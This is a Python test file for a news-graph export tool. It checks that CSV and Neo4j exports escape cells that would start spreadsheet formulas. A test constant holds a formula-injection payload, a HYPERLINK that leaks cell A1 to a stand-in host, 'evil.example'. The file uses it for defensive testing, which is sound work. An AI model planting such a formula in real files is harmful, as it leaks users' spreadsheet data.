"""The CSV and Neo4j exports are safe to open in a spreadsheet: a cell that would start a formula is marked as
text with a leading ' (``export/cells.py``), and load.cypher takes the mark off again (issue 23)."""

import csv
import re

import pytest
from conftest import run_cli

from newsgraph.export.cells import MARKED, safe
from newsgraph.resolve.linker import link_entities
from newsgraph.store import Store

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
TEXT = f"{HYPERLINK} met @acme on Monday."
FORMULA_START = tuple("=+-@\t\r")


def unmark(cell: str) -> str:
    """What load.cypher does to a text cell."""
    return cell[1:] if re.fullmatch(MARKED, cell) else cell


@pytest.mark.parametrize("text", [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x", "'@"])
def test_a_formula_is_marked_and_the_mark_comes_off(text):
    assert safe(text) == "'" + text and unmark(safe(text)) == text


@pytest.mark.parametrize("value", ["Tony Blair", "'quoted'", "x=1", "", "'", 3, -2.5, None])
def test_other_values_are_left_as_they_are(value):
    assert safe(value) == value
    if isinstance(value, str):
        assert unmark(value) == value


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """A store whose entity names and evidence sentence begin like formulas."""
    path = str(tmp_path_factory.mktemp("cells") / "g.db")
    people = [(HYPERLINK, "Person"), ("@acme", "Company")]
    entities = [
        {"id": f"e{i}", "name": n, "type": typ, "aliases": [], "mentions": [{"start": TEXT.index(n), "end": TEXT.index(n) + len(n), "text": n}]}
        for i, (n, typ) in enumerate(people)
    ]
    event = {
        "type": "CONSULT",
        "status": "occurred",
        "source": ["e0"],
        "target": ["e1"],
        "confidence": 0.9,
        "evidence": [{"sentence": TEXT, "start": 0, "end": len(TEXT)}],
    }
    with Store(path) as store:
        store.save({"document": {"id": "evil"}, "entities": entities, "events": [event]}, TEXT, link=link_entities)
    return path


def export(db: str, fmt: str, out) -> dict[str, list[dict[str, str]]]:
    res = run_cli("export", "--format", fmt, "-o", str(out), "--db", db)
    assert res.returncode == 0, res.stderr
    tables = {}
    for f in sorted(out.glob("*.csv")):
        with f.open(encoding="utf-8", newline="") as fh:
            tables[f.name] = list(csv.DictReader(fh))
    return tables


def no_cell_starts_a_formula(tables) -> None:
    for name, rows in tables.items():
        for row in rows:
            assert not any(v.startswith(FORMULA_START) for v in row.values()), (name, row)


def test_csv_cells_are_marked(db, tmp_path):
    tables = export(db, "csv", tmp_path / "csv")
    no_cell_starts_a_formula(tables)
    assert {r["name"] for r in tables["nodes.csv"]} == {"'" + HYPERLINK, "'@acme"}
    (edge,) = tables["edges.csv"]
    assert edge["sentence"] == "'" + TEXT and edge["confidence"] == "0.9"


def test_neo4j_cells_are_marked_and_load_cypher_unmarks_them(db, tmp_path):
    out = tmp_path / "neo4j"
    tables = export(db, "neo4j", out)
    no_cell_starts_a_formula(tables)
    nodes, (rel,) = tables["nodes.csv"], tables["relationships.csv"]
    assert {unmark(r["name"]) for r in nodes} == {HYPERLINK, "@acme"}
    assert {r[":LABEL"] for r in nodes} == {"Entity;Person", "Entity;Company"}  # ids, labels and types are never marked
    assert {rel[":START_ID"], rel[":END_ID"]} == {r["id:ID"] for r in nodes} and rel[":TYPE"] == "CONSULT"
    assert unmark(rel["sentence"]) == TEXT and rel["start:int"] == "0"
    script = (out / "load.cypher").read_text(encoding="utf-8")
    unmark_sentence = "CASE WHEN row.`sentence` =~ '(?s)\\'+[=+\\\\-@\\\\t\\\\r].*' THEN substring(row.`sentence`, 1) ELSE row.`sentence` END"
    assert f"r.`sentence` = {unmark_sentence}" in script
    assert "substring(row.`name`, 1)" in script and "toInteger(row.`start:int`)" in script
